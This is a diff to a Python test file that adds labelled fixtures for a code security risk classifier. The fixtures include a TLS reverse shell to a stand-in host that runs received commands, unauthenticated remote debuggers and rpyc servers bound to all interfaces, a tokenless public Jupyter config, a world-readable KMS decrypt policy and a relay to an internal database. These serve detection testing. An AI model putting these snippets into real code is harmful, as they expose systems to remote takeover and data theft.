@@ -7242,6 +7242,74 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "pw = getpass.getpass('Database password: ')\n",
             S,
         ),
+        # holdout208-211: debuggers and remote interpreters on every interface, relays of internal names, Jupyter
+        # without a token, key policies for everyone, TLS sockets
+        (
+            'import debugpy\n'
+            "debugpy.listen(('0.0.0.0', 5678))\n"
+            'debugpy.wait_for_client()\n',
+            C,
+        ),
+        (
+            'import debugpy\n'
+            "debugpy.listen(('127.0.0.1', 5678))\n",
+            S,
+        ),
+        (
+            'from rpyc.core.service import ClassicService\n'
+            'from rpyc.utils.server import ThreadedServer\n'
+            "ThreadedServer(ClassicService, hostname='0.0.0.0', port=18812).start()\n",
+            C,
+        ),
+        (
+            'import rpyc\n'
+            'from rpyc.utils.server import ThreadedServer\n'
+            'class Calc(rpyc.Service):\n'
+            '    def exposed_add(self, a, b):\n'
+            '        return a + b\n'
+            "ThreadedServer(Calc, hostname='0.0.0.0', port=18861).start()\n",
+            S,
+        ),
+        (
+            'import socket\n'
+            'srv = socket.socket()\n'
+            "srv.bind(('0.0.0.0', 15432))\n"
+            'srv.listen(64)\n'
+            'while True:\n'
+            '    client, _ = srv.accept()\n'
+            "    upstream = socket.create_connection(('prod-db.internal.corp', 5432))\n",
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "cfg = Path.home() / '.jupyter' / 'jupyter_server_config.py'\n"
+            'cfg.write_text("c.ServerApp.ip = \'0.0.0.0\'\\nc.IdentityProvider.token = \'\'\\n")\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "cfg = Path.home() / '.jupyter' / 'jupyter_server_config.py'\n"
+            'cfg.write_text("c.ServerApp.ip = \'127.0.0.1\'\\nc.ServerApp.open_browser = False\\n'
+            '")\n',
+            L,
+        ),
+        (
+            'import boto3, json\n'
+            "kms = boto3.client('kms')\n"
+            "policy = {'Statement': [{'Effect': 'Allow', 'Principal': {'AWS': '*'}, 'Action':"
+            " ['kms:Decrypt'], 'Resource': '*'}]}\n"
+            "kms.put_key_policy(KeyId='k', PolicyName='default', Policy=json.dumps(policy))\n",
+            H,
+        ),
+        (
+            'import socket, ssl, subprocess\n'
+            'ctx = ssl.create_default_context()\n'
+            "s = ctx.wrap_socket(socket.create_connection(('update.example.com', 443)))\n"
+            'while True:\n'
+            '    cmd = s.recv(4096).decode()\n'
+            '    s.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
